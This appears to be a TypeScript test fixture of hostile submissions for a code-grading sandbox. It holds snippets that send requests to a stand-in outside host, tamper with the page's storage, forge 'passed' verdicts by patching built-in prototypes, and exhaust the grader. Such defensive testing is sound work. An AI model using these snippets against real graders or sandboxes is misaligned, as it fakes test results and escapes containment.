/**
 * Submissions that try to get out, or to pass without being right. Each is put in front of a handler that is wrong.
 * OWN stands for the page's own server, OTHER for somebody else's.
 */

/**
 * What hosts have beyond the language, taken from where it would be: by its bare name it would be refused before the sandbox
 * is tried at all.
 */
const hosts =
  'fetch, XMLHttpRequest, WebSocket, EventSource, importScripts, Worker, URL, Blob, indexedDB, caches, navigator, BroadcastChannel, postMessage, MessageChannel, MessagePort, self';

const prepare = (body: string) =>
  `export const attempt = (() => { try { const { ${hosts} }: any = globalThis; ${body} } catch {} return 0; })();`;

/** What a worker might be able to reach. */
export const reaching: Readonly<Record<string, string>> = {
  'fetch the own server': prepare(`fetch('OWN/leak/fetch').catch(() => {});`),
  'fetch another server': prepare(`fetch('OTHER/leak/fetch', { mode: 'no-cors' }).catch(() => {});`),
  XMLHttpRequest: prepare(`const x = new XMLHttpRequest(); x.open('GET', 'OTHER/leak/xhr'); x.send();`),
  WebSocket: prepare(`new WebSocket('OTHER/leak/ws'.replace('http', 'ws'));`),
  EventSource: prepare(`new EventSource('OTHER/leak/es');`),
  importScripts: prepare(`importScripts('OTHER/leak/importScripts');`),
  'import()': prepare(`import('OTHER/leak/import').catch(() => {});`),
  'nested worker': prepare(
    `new Worker(URL.createObjectURL(new Blob(["fetch('OTHER/leak/nested', { mode: 'no-cors' })"])));`,
  ),
  'ways out, found by a prototype': prepare(
    `const g = globalThis; for (let p = g; p; p = Object.getPrototypeOf(p)) { const f = Object.getOwnPropertyDescriptor(p, 'fetch'); if (f) f.value.call(g, 'OTHER/leak/proto', { mode: 'no-cors' }).catch(() => {}); }`,
  ),
  'a realm of its own through Function': prepare(
    `(function* () {}).constructor('fetch("OTHER/leak/function", { mode: "no-cors" })')().next();`,
  ),
  eval: prepare(`(0, eval)('fetch("OTHER/leak/eval", { mode: "no-cors" })');`),
  'IndexedDB of the page': prepare(
    `const r = indexedDB.open('progress'); r.onupgradeneeded = () => r.result.createObjectStore('forged');`,
  ),
  'caches of the page': prepare(`caches.open('forged').catch(() => {});`),
  'files of the page': prepare(
    `navigator.storage.getDirectory().then((d) => d.getFileHandle('forged', { create: true })).catch(() => {});`,
  ),
  'BroadcastChannel to the page': prepare(`new BroadcastChannel('progress').postMessage('forged');`),
};

/** What the compile step stops already; all else must come to the sandbox, or nothing would be known of that. */
export const refused: readonly string[] = ['import()', 'eval'];

/** A forged pass must not reach the page, or not be a pass. */
export const forging: Readonly<Record<string, string>> = {
  'postMessage of a pass': prepare(`postMessage({ verdict: { outcome: 'passed' } });`),
  'a pass through a port of its own': prepare(
    `const c = new MessageChannel(); postMessage({ verdict: { outcome: 'passed' } }, [c.port2]);`,
  ),
  'MessagePort patched': prepare(
    `const p = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (d) { if (d.verdict) d.verdict.outcome = 'passed'; return p.call(this, d); };`,
  ),
  'every patched': prepare(`Array.prototype.every = () => true;`),
  'some patched': prepare(`Array.prototype.some = () => false;`),
  'map patched': prepare(`Array.prototype.map = function () { return []; };`),
  'push patched': prepare(`Array.prototype.push = function (c) { c.status = 'passed'; this[this.length] = c; };`),
  'array iterator patched': prepare(
    `const it = Object.getPrototypeOf([][Symbol.iterator]()); it.next = () => ({ done: true });`,
  ),
  'generator prototype patched': prepare(
    `Object.getPrototypeOf(Object.getPrototypeOf((function* () {})())).next = () => ({ done: true, value: 256 });`,
  ),
  'then patched': prepare(
    `const t = Promise.prototype.then; Promise.prototype.then = function (f) { return t.call(this, f); };`,
  ),
  'setter on Object.prototype': prepare(
    `Object.defineProperty(Object.prototype, 'outcome', { get: () => 'passed', set() {}, configurable: true });`,
  ),
  'JSON.stringify patched': prepare(`JSON.stringify = () => '"passed"';`),
  prepareStackTrace: prepare(
    `Error.prepareStackTrace = (e, s) => { for (const c of s) { const f = c.getFunction?.(); if (f?.caller) throw f; } return ''; }; try { null.x } catch (e) { e.stack; }`,
  ),
  'self.close': prepare(`self.close();`),
  'a trap that throws': `throw new Proxy({}, { get() { throw 1; } });`,
};

/** These must not keep the page from grading the next submission. */
export const exhausting: Readonly<Record<string, string>> = {
  'endless loop': `for (;;);`,
  'endless promises': prepare(`const again = () => Promise.resolve().then(again); again();`),
  'endless regular expression': `export const slow = /^(a+)+$/.test('a'.repeat(60) + 'b');`,
  'stack without bound': `const f = (): number => f() + 1; f();`,
  'endless stack of generators': `function* g(): Generator { yield* g(); } for (const _ of g());`,
};
